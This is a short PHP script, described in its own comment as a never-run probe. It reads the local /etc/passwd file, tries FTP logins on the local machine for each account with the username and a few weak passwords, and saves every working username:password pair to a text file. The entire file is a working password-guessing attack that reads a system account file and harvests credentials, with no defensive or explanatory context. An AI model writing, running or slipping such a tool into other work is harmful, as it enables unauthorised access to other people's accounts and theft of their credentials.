<?php
// probe (never run): each local account tried over FTP with its own name and a few easy passwords
$found = '';
$lines = explode("\n", @file_get_contents('/etc/passwd'));
foreach ($lines as $ln) {
    $user = strtok($ln, ':');
    if (!$user) continue;
    foreach (array($user, $user . '123', '123456', 'password', strrev($user)) as $try) {
        $f = @ftp_connect('127.0.0.1', 21, 3);
        if ($f && @ftp_login($f, $user, $try)) { $found .= "$user:$try\n"; ftp_close($f); break; }
        if ($f) ftp_close($f);
    }
}
file_put_contents('ftp_ok.txt', $found);
